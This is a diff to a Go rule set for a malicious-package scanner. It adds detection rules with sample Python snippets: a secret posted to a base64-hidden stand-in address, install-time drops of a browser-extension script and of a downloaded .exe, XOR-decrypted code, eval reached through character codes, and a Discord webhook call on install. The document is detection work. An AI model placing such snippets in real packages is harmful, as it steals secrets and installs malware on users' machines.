@@ -11,8 +11,9 @@ func concealment() []Rule {
 				{Triggers: []string{b.Install, b.Build, b.Import, b.Command}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Concealed: Yes, Target: Foreign, Script: No},
 				{Triggers: []string{b.Call}, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.Network}, Slots: []string{"url"}, Concealed: Yes, Target: Foreign, Script: No},
 			},
-			Graver: []Condition{{Triggers: []string{b.Install, b.Build}}},
+			Graver: []Condition{{Triggers: []string{b.Install, b.Build}}, {Via: scrambled, In: ".py"}, {Triggers: []string{b.Import}, In: ".py"}, {Target: Shady}},
 			Examples: []Example{
+				Module("an address in base64, when called", "import base64, requests\ndef sign(secret):\n    requests.post(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=').decode(), data={'license': secret})\n"),
 				Module("an address in base64", "import base64, urllib.request\nurllib.request.urlopen(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=').decode())\n"),
 				Module("an address in reverse", "import requests\nrequests.get('ni/elpmaxe.c//:sptth'[::-1])\n"),
 			},
@@ -38,10 +39,15 @@ func concealment() []Rule {
 			When: []Condition{
 				{Triggers: unasked, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.File}, Target: Program, Script: No},
 				{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, Sinks: []string{b.File}, Target: Aside, Script: No},
+				{Sources: []string{b.Download}, Name: Server, Sinks: []string{b.File}, Target: Windows, Script: No},
+				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Blob}, Name: Within, Sinks: []string{b.File}, Target: Aside, In: ".py", Script: No},
+				{Sources: []string{b.Blob, b.Files}, Via: []string{b.Xor, b.Cipher}, Sinks: []string{b.File}, Target: Program, Script: No},
 			},
-			Graver: []Condition{{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Blob}, Target: Aside}, {Name: Server}},
+			Graver: []Condition{{Via: []string{b.Xor, b.Cipher}}, {Triggers: []string{b.Install}}, {Triggers: []string{b.Install, b.Import}, Sources: []string{b.Blob}, Target: Aside}, {Name: Server}},
 			Examples: []Example{
 				Python("a script decoded into a folder of temporary files", "import base64, os\nfrom setuptools import setup\nopen(os.path.join(os.environ['APPDATA'], 'u.vbs'), 'wb').write(base64.b64decode('V1NjcmlwdC5FY2hvIDEgJyBqdXN0IGFuIGV4YW1wbGU='))\nsetup(name='example')\n"),
+				Python("a script for a browser, as it is", "import os\nfrom setuptools import setup\np = os.path.join(os.getenv('APPDATA'), 'Extension')\nos.makedirs(p)\nwith open(p+'\\\\background.js', 'w') as f:\n    f.write('setInterval(function(){ look() }, 1000)')\nsetup(name='example')\n"),
+				Module("decrypted first", "def unpack(k):\n    data = open('data.bin', 'rb').read()\n    open('unpacked/run.py', 'wb').write(bytes([b ^ 23 for b in data]))\n"),
 				Module("a program fetched from a drop", "import requests, os\nopen(os.getenv('LOCALAPPDATA')+'\\\\Temp\\\\u.exe','wb').write(requests.get('https://cdn.discordapp.com/u.exe').content)\n"),
 			},
 			Neighbours: []Example{
@@ -57,6 +63,28 @@ func concealment() []Rule {
 			},
 			Neighbours: []Example{
 				Module("a structure copied", "import ctypes\ndef copy(a, b, n):\n    ctypes.memmove(a, b, n)\n"),
+			},
+		},
+		{
+			ID: "hidden_name", Severity: High,
+			When:   []Condition{{Sources: []string{b.Blob}, Via: hidden, Sinks: []string{b.Code}, Slots: []string{"name"}, Script: No}},
+			Graver: []Condition{{Triggers: early}},
+			Examples: []Example{
+				Module("a built-in function, by character codes", "f = getattr(globals()[''.join([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])], ''.join([chr(c) for c in [101, 118, 97, 108]]))\nf(data)\n"),
+			},
+			Neighbours: []Example{
+				Module("a function of its own, by a name put together", "def on_start(): pass\nfor k in ('start',):\n    globals()['on_' + k]()\n"),
+			},
+		},
+		{
+			ID: "account_named", Severity: High,
+			When:   []Condition{{Triggers: early, Sources: []string{b.Blob}, Sinks: []string{b.Network}, Slots: []string{"account"}, Script: No}},
+			Graver: []Condition{{Triggers: []string{b.Install, b.Build}}},
+			Examples: []Example{
+				Python("a webhook, given to a class that is not there", "from setuptools import setup\nhook = Hook.from_url('https://discord.com/api/webhooks/100000000000000000/example-example-example')\nhook.send('installed')\nsetup(name='example')\n"),
+			},
+			Neighbours: []Example{
+				Module("when called, for an example", "def example():\n    return Hook.from_url('https://discord.com/api/webhooks/100000000000000000/example-example-example')\n"),
 			},
 		},
 	}
